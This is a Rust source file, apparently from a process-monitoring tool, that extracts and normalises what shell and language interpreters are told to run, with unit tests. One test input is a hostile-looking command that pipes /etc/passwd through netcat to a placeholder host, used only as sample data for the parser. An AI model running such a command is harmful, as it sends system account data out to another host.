//! What an interpreter runs: the same `/bin/sh` is another program with every script and every command.

use std::borrow::Cow;

use ethogram_model::Exec;

use super::shape;
use crate::subject::{normalise, program::file_name};

/// Arguments that are read.
const MOST: usize = 16;
/// Characters kept of a script.
const LONGEST: usize = 128;

/// Whether a program as profiles name it is a shell, and no script that one runs.
pub(crate) fn is_shell(label: &str) -> bool {
    matches!(stem(called(label)), "sh" | "ash" | "bash" | "dash" | "zsh" | "ksh" | "mksh")
}

/// Whether a program does what its arguments say.
pub(crate) fn is_interpreter(name: &str) -> bool {
    matches!(
        stem(name),
        "sh" | "ash" | "bash" | "dash" | "zsh" | "ksh" | "python" | "perl" | "ruby" | "node" | "nodejs" | "php" | "lua"
    )
}

/// Whether a program runs what it is given as a file, and is no language that people write commands in.
fn is_loader(name: &str) -> bool {
    matches!(stem(name), "java" | "deno" | "bun")
}

fn stem(name: &str) -> &str {
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Whether a program as profiles name it is an interpreter: `/bin/sh`, `/bin/busybox (sh)`.
pub(crate) fn is_program(label: &str) -> bool {
    is_interpreter(called(label))
}

/// Whether its arguments are part of what it runs.
pub(crate) fn has_arguments(label: &str) -> bool {
    is_interpreter(called(label)) || is_loader(called(label))
}

fn called(label: &str) -> &str {
    let called = label.strip_suffix(')').and_then(|label| label.rsplit_once(" (")).map(|(_, called)| called);
    called.unwrap_or_else(|| file_name(label))
}

/// The part of its arguments that says what an interpreter runs: `-c 'backup --all /srv'`, `-m http.server`, `/app/job.py`.
/// None for other programs, and where it reads what to do from elsewhere. Secrets in it are masked, and are any text.
pub(crate) fn of(exec: &Exec) -> Option<String> {
    let names = [exec.name.as_str(), file_name(&exec.path)];
    let is_loader = names.into_iter().any(is_loader);
    if !is_loader && !names.into_iter().any(is_interpreter) {
        return None;
    }
    let mut args = exec.args.iter().skip(1).take(MOST).map(String::as_str);
    while let Some(arg) = args.next() {
        let (option, value) = arg.split_once('=').filter(|_| arg.starts_with("--")).unwrap_or((arg, ""));
        match option {
            "-m" => return Some(format!("-m {}", cut(args.next().unwrap_or_default()))),
            "-jar" => return Some(format!("-jar {}", script(args.next().unwrap_or_default()))),
            "-cp" | "-classpath" | "--class-path" if is_loader => _ = args.next(),
            "run" | "x" if is_loader => {}
            "eval" if is_loader => return Some(code("-e", args.next())),
            "--eval" | "--print" | "--run" => {
                return Some(code("-e", Some(value).filter(|v| !v.is_empty()).or_else(|| args.next())));
            }
            // Its first letters can be other options: `-ec`, `-lc`.
            _ if is_option(arg, 'c') => return Some(code("-c", args.next())),
            _ if is_option(arg, 'e') || matches!(arg, "-E" | "-r" | "-p") => return Some(code("-e", args.next())),
            "-" | "-s" | "-i" => return None,
            _ if arg.starts_with('-') => {}
            named => return Some(script(named)),
        }
    }
    None
}

fn script(path: &str) -> String {
    cut(&normalise::path(path)).into_owned()
}

/// What is given as text, by its shape.
fn code(option: &str, text: Option<&str>) -> String {
    format!("{option} '{}'", shape::of(text.unwrap_or_default()))
}

fn is_option(arg: &str, letter: char) -> bool {
    let Some(letters) = arg.strip_prefix('-') else { return false };
    letters.len() <= 4 && letters.ends_with(letter) && letters.chars().all(|c| c.is_ascii_lowercase())
}

fn cut(text: &str) -> Cow<'_, str> {
    match text.char_indices().nth(LONGEST) {
        Some((end, _)) => format!("{}…", &text[..end]).into(),
        None => text.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template_of(line: &[&str]) -> Option<String> {
        let name = file_name(line[0]).to_owned();
        let args = line.iter().map(|a| (*a).to_owned()).collect();
        of(&Exec { path: line[0].into(), name, args, ..Exec::default() })
    }

    #[test]
    fn what_is_run_is_said() {
        for (line, wanted) in [
            (&["/bin/sh", "-c", "backup --all /srv"][..], Some("-c 'backup --all /srv'")),
            (&["/bin/sh", "-c", "LC_ALL=C exec /opt/run 12345"], Some("-c 'LC_ALL=C exec /opt/run <n>'")),
            (&["/bin/bash", "-ec", "cat /etc/passwd|nc x 1"], Some("-c 'cat /etc/passwd|nc x <n>'")),
            (&["/bin/sh", "-c", ""], Some("-c ''")),
            (&["/bin/sh", "-c"], Some("-c ''")),
            (&["/usr/bin/python3.11", "-u", "-m", "http.server", "80"], Some("-m http.server")),
            (&["/usr/bin/python3", "/app/job-20260131.py", "--x"], Some("/app/job-<date>.py")),
            (&["/usr/bin/perl", "-e", "print 1"], Some("-e 'print <n>'")),
            (&["/usr/bin/perl", "-ne", "print if /x/"], Some("-e 'print if /x/'")),
            (&["/usr/bin/php", "-r", "x();"], Some("-e 'x();'")),
            (&["/usr/bin/node", "--eval=x()"], Some("-e 'x()'")),
            (&["/usr/bin/node", "--print", "x()"], Some("-e 'x()'")),
            (&["/usr/bin/deno", "eval", "x()"], Some("-e 'x()'")),
            (&["/usr/bin/deno", "run", "--allow-net", "/app/a.ts"], Some("/app/a.ts")),
            (&["/usr/bin/bun", "/app/a.ts"], Some("/app/a.ts")),
            (&["/usr/bin/java", "-Xmx1g", "-cp", "/lib/x", "-jar", "/app/a.jar"], Some("-jar /app/a.jar")),
            (&["/usr/bin/java", "-cp", "/lib/x", "com.example.Main"], Some("com.example.Main")),
            (&["/bin/sh"], None),
            (&["/bin/sh", "-i"], None),
            (&["/bin/ls", "-c", "x"], None),
            (&["/usr/bin/shred", "x"], None),
        ] {
            assert_eq!(template_of(line).as_deref(), wanted, "{line:?}");
        }
        assert!(template_of(&["/bin/sh", &"é".repeat(9_999)]).is_some_and(|t| t.chars().count() == LONGEST + 1));
        assert!(is_program("/bin/busybox (sh)") && !is_program("/usr/bin/java") && has_arguments("/usr/bin/java"));
    }
}
